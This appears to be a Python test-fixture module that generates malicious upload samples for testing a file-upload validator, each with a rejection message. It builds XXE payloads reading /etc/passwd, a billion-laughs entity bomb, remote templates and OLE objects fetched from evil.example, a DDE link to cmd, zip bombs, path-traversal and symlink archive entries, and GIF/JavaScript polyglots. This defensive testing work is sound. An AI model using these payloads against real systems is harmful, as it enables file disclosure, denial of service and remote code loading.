"""Bad files beyond the plain ones of test_uploads: (name, content, reason, what to do), made when they are needed."""

import struct
import zipfile
import zlib
from io import BytesIO

from tests.robustness import files, pdfs

MB = 1024 * 1024
RELS = "word/_rels/document.xml.rels"
SETTINGS = "word/_rels/settings.xml.rels"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DTD = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
LAUGHS = (
    b'<!DOCTYPE r [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 10) for letter in b"bcdefghij")
    + b"]><r>&j;</r>"
)
DAMAGED, AGAIN = "is damaged or incomplete", "Save it again from the program it was made with"
BOMB, ODD = "is much larger when unpacked than it appears", "has parts with names that Office programs do not use"
MACROS, PLAIN = "holds macros", "Save it as plain .docx or as PDF"
LOADS, AS_PDF = "from another place when it is opened", "Attach it as PDF instead"
PRINT = "Print it to PDF and attach that"


def external(kind, target):
    return (
        f'<Relationships><Relationship Id="r1" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def entry(name, data=b"x", mode=0):
    """A Word file with one more part, under a name that zipfile alone would not refuse to write."""
    file = BytesIO(files.office())
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(info, data)
    return file.getvalue()


def wide_png(width, height):
    """The head alone says how large it is; its body is small."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(MB))) + chunk(b"IEND", b"")


def nested(depth):
    inner = files.office("xlsx")
    for _ in range(depth):
        inner = files.office("xlsx", **{"xl/embeddings/Microsoft_Excel_Worksheet.xlsx": inner})
    return inner


def lying_bomb():
    """Its table of contents says that a part is small; the part is not."""
    data = bytearray(files.office(**{"word/media/a.xml": b"<a>" + bytes(30 * MB)}))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        while at >= 0:
            if data[at + offset : at + offset + 4] == struct.pack("<L", 30 * MB + 3):
                data[at + offset : at + offset + 4] = struct.pack("<L", 300)
            at = data.find(signature, at + 4)
    return bytes(data)


def huge_directory():
    """A table of contents of a hundred thousand empty parts."""
    line = b"PK\x01\x02" + bytes(24) + struct.pack("<HHH", 4, 0, 0) + bytes(12) + b"a.b."
    table = line * 100_000
    return b"PK\x03\x04" + table + b"PK\x05\x06" + bytes(4) + struct.pack("<HHLLH", 65535, 65535, len(table), 4, 0)


def macro_types():
    return files.types("docx", "application/vnd.ms-word.document.macroEnabled.main+xml")


def vba_types():
    extra = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    return files.types().replace(b"</Types>", extra)


BAD = {
    "macros under another name": ("Plan.docx", lambda: files.office(**{files.TYPES: vba_types()}), MACROS, PLAIN),
    "docm renamed": ("Plan.docx", lambda: files.office(**{files.TYPES: macro_types()}), MACROS, PLAIN),
    "xlsm": ("Costs.xlsm", lambda: files.office("xlsx"), "may hold macros", "Save it as .xlsx or PDF"),
    "remote template": (
        "Plan.docx",
        lambda: files.office(**{SETTINGS: external("attachedTemplate", "https://evil.example/t.dotm")}),
        f"loads its template {LOADS}",
        AS_PDF,
    ),
    "template on a share": (
        "Plan.docx",
        lambda: files.office(**{SETTINGS: external("attachedTemplate", r"file:///\\evil.example\share\t.dotm")}),
        f"loads its template {LOADS}",
        AS_PDF,
    ),
    "remote object": (
        "Plan.docx",
        lambda: files.office(**{RELS: external("oleObject", "http://evil.example/a.hta!")}),
        f"loads a part of it {LOADS}",
        AS_PDF,
    ),
    "remote picture": (
        "Plan.docx",
        lambda: files.office(**{RELS: external("image", "//evil.example/a.png")}),
        f"loads a part of it {LOADS}",
        AS_PDF,
    ),
    "XXE": ("Plan.docx", lambda: files.office(**{"word/document.xml": DTD}), "holds definitions (DTD)", AGAIN),
    "XXE in UTF-16": (
        "Plan.docx",
        lambda: files.office(
            **{"word/footnotes.xml": DTD.decode().replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")}
        ),
        "holds definitions (DTD)",
        AGAIN,
    ),
    "DTD in a part without an ending": (
        "Plan.docx",
        lambda: files.office(**{"word/hidden": DTD}),
        "holds definitions (DTD)",
        AGAIN,
    ),
    "DTD in the links": ("Plan.docx", lambda: files.office(**{RELS: DTD}), "holds definitions (DTD)", AGAIN),
    "billion laughs": (
        "Costs.xlsx",
        lambda: files.office("xlsx", **{"xl/sharedStrings.xml": LAUGHS}),
        "holds definitions (DTD)",
        AGAIN,
    ),
    "DDE": (
        "Costs.xlsx",
        lambda: files.office(
            "xlsx", **{"xl/externalLinks/externalLink1.xml": b'<x:externalLink><x:ddeLink ddeService="cmd"/>'}
        ),
        "starts other programs",
        "Break its links",
    ),
    "program in a picture's place": (
        "Plan.docx",
        lambda: files.office(**{"word/media/image1.png": files.EXE}),
        "contains a program",
        AGAIN,
    ),
    "old object": (
        "Plan.docx",
        lambda: files.office(**{"word/embeddings/oleObject1.bin": files.OLE}),
        "an object in it that cannot be checked",
        "Paste it as a picture",
    ),
    "archive within": (
        "Plan.docx",
        lambda: files.office(**{"word/media/a.png": files.archive(a=b"x")}),
        "contains other files",
        "Attach those separately",
    ),
    "macros within": (
        "Plan.docx",
        lambda: files.office(**{"word/embeddings/a.xlsx": files.office("xlsx", **{"xl/vbaProject.bin": b"x"})}),
        MACROS,
        "Save it as plain .xlsx",
    ),
    "too deep": ("Costs.xlsx", lambda: nested(3), "contains other files", "attach it as PDF"),
    "nested bomb": (
        "Plan.docx",
        lambda: files.office(**{"word/embeddings/a.xlsx": files.office("xlsx", **{"xl/media/a.emf": bytes(30 * MB)})}),
        BOMB,
        "attach it as PDF",
    ),
    "lying bomb": ("Plan.docx", lying_bomb, DAMAGED, AGAIN),
    "10,000 parts": ("Plan.docx", lambda: files.office(**{f"a{n}": b"" for n in range(10_000)}), BOMB, "Save it again"),
    "100,000 parts": ("Plan.docx", huge_directory, BOMB, "Save it again"),
    "leads out": ("Plan.docx", lambda: entry("../../etc/cron.d/x"), ODD, AGAIN),
    "leads to the root": ("Plan.docx", lambda: entry("/etc/passwd"), ODD, AGAIN),
    "leads to a drive": ("Plan.docx", lambda: entry("C:\\Windows\\x"), ODD, AGAIN),
    "symlink": ("Plan.docx", lambda: entry("word/media/a.png", b"/etc/passwd", 0o120777), ODD, AGAIN),
    "unseen in a part's name": ("Plan.docx", lambda: entry("word/\u202ea.xml"), ODD, AGAIN),
    "two parts of one name": ("Plan.docx", lambda: entry("word/Document.xml", b"<a/>"), ODD, AGAIN),
    "half Word": (
        "Plan.docx",
        lambda: files.office(**{"word/a.bin": bytes(range(256)) * 40})[:-40],
        "is not a docx",
        "again",
    ),
    "changed Word": ("Plan.docx", lambda: files.office().replace(b"PK\x01\x02", b"PK\x01\x03", 1), "is damaged", AGAIN),
    "protected Excel": (
        "Costs.xlsx",
        lambda: files.OLE,
        "protected by a password",
        "Save it again without a password",
    ),
    "protected slides": (
        "Slides.pptx",
        lambda: files.OLE,
        "protected by a password",
        "Save it again without a password",
    ),
    "50,000 dots wide": (
        "Map.png",
        lambda: wide_png(50_000, 50_000),
        "a much higher resolution than a scan",
        "attach it as PDF",
    ),
    "11,000 dots wide": (
        "Map.png",
        lambda: wide_png(11_000, 11_000),
        "a much higher resolution than a scan",
        "attach it as PDF",
    ),
    "half a PNG": ("Map.png", lambda: files.picture("PNG", (300, 300))[:-20], DAMAGED, AGAIN),
    "half a JPEG": ("Map.jpg", lambda: files.picture("JPEG", (300, 300))[:-200], DAMAGED, AGAIN),
    "GIF with script": (
        "Map.gif",
        lambda: b"GIF89a/*" + files.GIF[6:] + b"*/=1;alert(1)//",
        "is not a file type we accept",
        "Attach PDF",
    ),
    "GIF with script named PNG": ("Map.png", lambda: b"GIF89a/*\x00\x00*/=1;alert(1)//", "says it is PNG", AGAIN),
    "TIFF": ("Scan.tif", lambda: files.picture("TIFF"), "is not a file type we accept", "Attach PDF"),
    "drawing named PNG": ("Map.png", lambda: files.SVG, "says it is PNG, but its content is not", AGAIN),
    "archive after a picture": ("Map.jpg", lambda: files.JPEG + files.archive(a=b"x"), "a second file hidden", AGAIN),
    "program's ending before": (
        "Plan.exe.pdf",
        lambda: pdfs.pdf(),
        "has a second file extension (.exe)",
        "Rename it",
    ),
    "script's ending before": ("Map.js .png", lambda: files.png(), "has a second file extension (.js)", "Rename it"),
    "PDF with a script": ("Plan.pdf", lambda: pdfs.BAD["script"], "holds a script", PRINT),
    "PDF with a script by numbers": ("Plan.pdf", lambda: pdfs.BAD["script by numbers"], "holds a script", PRINT),
    "PDF with a packed script": ("Plan.pdf", lambda: pdfs.BAD["script in an object stream"], "holds a script", PRINT),
    "PDF with a script in untold objects": (
        "Plan.pdf",
        lambda: pdfs.BAD["script in an object stream without a type"],
        "holds a script",
        PRINT,
    ),
    "PDF with a sham stream": ("Plan.pdf", lambda: pdfs.BAD["script behind a sham stream"], "holds a script", PRINT),
    "PDF packed oddly": ("Plan.pdf", lambda: pdfs.BAD["odd packing"], "built in a way that cannot be checked", PRINT),
    "PDF that starts a program": ("Plan.pdf", lambda: pdfs.BAD["launch"], "starts another program", PRINT),
    "PDF with a file within": ("Plan.pdf", lambda: pdfs.BAD["file within"], "contains other files", PRINT),
    "PDF with a film": ("Plan.pdf", lambda: pdfs.BAD["film"], "holds a script or a film", PRINT),
    "PDF with an XFA form": ("Plan.pdf", lambda: pdfs.BAD["XFA form"], "a form of a kind that may hold scripts", PRINT),
    "protected PDF": (
        "Plan.pdf",
        lambda: pdfs.BAD["encrypted"],
        "protected by a password",
        "Save it again without protection",
    ),
    "PDF bomb": ("Plan.pdf", lambda: pdfs.BAD["bomb"], BOMB, "Print it to PDF"),
    "half a PDF": ("Plan.pdf", lambda: pdfs.BAD["cut"], DAMAGED, AGAIN),
    "half an object stream": ("Plan.pdf", lambda: pdfs.BAD["cut object stream"], "is damaged", AGAIN),
}
